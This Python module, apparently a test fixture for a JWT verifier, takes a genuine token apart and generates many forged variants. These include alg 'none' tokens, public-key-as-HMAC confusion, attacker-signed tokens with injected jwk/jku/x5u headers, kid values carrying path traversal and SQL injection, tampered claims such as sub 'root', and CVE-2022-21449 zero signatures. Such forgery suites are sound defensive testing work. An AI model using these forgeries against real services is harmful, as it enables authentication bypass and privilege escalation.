"""Forged tokens: one true token, and everything attackers do to it (facts: JOSE matrix)."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

_FAR: Final = 10**6


def encoded(raw: bytes) -> str:
    """Base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def decoded(part: str) -> bytes:
    """Return what was encoded."""
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


@dataclass(frozen=True, slots=True)
class Forge:
    """A true token taken apart, and the public keys that anybody can read."""

    header: Mapping[str, Any]
    claims: Mapping[str, Any]
    signature: str
    jwks: Mapping[str, Any]
    own: ec.EllipticCurvePrivateKey

    @classmethod
    def of(cls, token: str, jwks: Mapping[str, Any]) -> "Forge":
        """Take a token apart; draw a key of the attacker's own."""
        header, claims, signature = token.split(".")
        return cls(
            json.loads(decoded(header)),
            json.loads(decoded(claims)),
            signature,
            jwks,
            ec.generate_private_key(ec.SECP256R1()),
        )

    def tokens(self) -> Iterator[tuple[str, str]]:
        """Return every forgery with its name."""
        yield from self._unsigned()
        yield from self._confused()
        yield from self._own_key()
        yield from self._bent()
        yield from self._signatures()

    def _plain(self, header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
        return f"{encoded(_json(header))}.{encoded(_json(claims))}"

    def _unsigned(self) -> Iterator[tuple[str, str]]:
        algorithms: tuple[object, ...] = ("none", "None", "nOnE", "", " none", None, 0, [])
        for alg in algorithms:
            plain = self._plain({**self.header, "alg": alg}, self.claims)
            yield f"alg {alg!r}", f"{plain}."
            yield f"alg {alg!r}, old signature", f"{plain}.{self.signature}"

    def _confused(self) -> Iterator[tuple[str, str]]:
        """RFC 8725 §2.1: the public key taken as an HMAC secret, in every spelling."""
        for key in self.jwks["keys"]:
            secrets = (_json(key), json.dumps(key).encode(), decoded(key.get("x", "")), b"")
            for secret in secrets:
                for alg, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512)):
                    plain = self._plain({**self.header, "alg": alg}, self.claims)
                    mac = hmac.new(secret, plain.encode(), digest).digest()
                    yield f"{alg} with a public key", f"{plain}.{encoded(mac)}"

    def _own_key(self) -> Iterator[tuple[str, str]]:
        """A true signature, by the attacker: whatever the header says about the key."""
        jwk = _public(self.own)
        kid = self.header["kid"]
        tricks: tuple[dict[str, Any], ...] = (
            {"kid": kid},
            {"kid": kid, "jwk": jwk},
            {"kid": kid, "jku": "http://localhost:9/jwks"},
            {"kid": kid, "x5u": "http://localhost:9/x5u"},
            {"kid": kid, "x5c": ["MIIB"]},
            *({"kid": k} for k in (None, 1, "", "../../dev/null", "' OR '1'='1", "x" * 9000,
                                   "\0", "\u202e" + kid, kid + " ", kid.upper(), [kid])),
            {"crit": ["exp"], "kid": kid},
            {"crit": [], "kid": kid},
            {"b64": False, "crit": ["b64"], "kid": kid},
        )  # fmt: skip
        for trick in tricks:
            header = {**self.header, **trick}
            yield f"own key, {sorted(trick)} {trick.get('kid')!r:.20}", self.signed(header)
        nameless = {n: v for n, v in self.header.items() if n != "kid"}
        yield "own key, no kid", self.signed(nameless)

    def signed(self, header: Mapping[str, Any]) -> str:
        """Sign by the attacker's own key (RFC 7518 §3.4)."""
        plain = self._plain(header, self.claims)
        der = self.own.sign(plain.encode(), ec.ECDSA(hashes.SHA256()))
        r, s = decode_dss_signature(der)
        return f"{plain}.{encoded(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"

    def _bent(self) -> Iterator[tuple[str, str]]:
        """The true signature under something else."""
        for name, value in (
            ("sub", "root"),
            ("scope", "keys:write"),
            ("exp", self.claims["exp"] + _FAR),
            ("client_id", "other"),
        ):
            bent = self._plain(self.header, {**self.claims, name: value})
            yield f"another {name}", f"{bent}.{self.signature}"
        plain = self._plain(self.header, self.claims)
        twice = encoded(b'{"alg":"none",' + _json(self.header)[1:])
        yield "alg twice", f"{twice}.{plain.split('.')[1]}.{self.signature}"

    def _signatures(self) -> Iterator[tuple[str, str]]:
        """CVE-2022-21449 and its neighbours: signatures that no key made."""
        plain = self._plain(self.header, self.claims)
        order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
        raw = decoded(self.signature)
        for name, signature in (
            ("zero", bytes(64)),
            ("order", order.to_bytes(32, "big") * 2),
            ("empty", b""),
            ("short", raw[:-1]),
            ("long", raw + b"\0"),
            ("DER", self.own.sign(plain.encode(), ec.ECDSA(hashes.SHA256()))),
        ):
            yield f"signature {name}", f"{plain}.{encoded(signature)}"
        yield "padded", f"{plain}.{self.signature}=="
        yield "five parts", f"{plain}.{self.signature}.x.y"
        yield "two parts", plain
        yield "dots", "." * 3000


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _public(key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
    numbers = key.public_key().public_numbers()
    x, y = (encoded(n.to_bytes(32, "big")) for n in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}
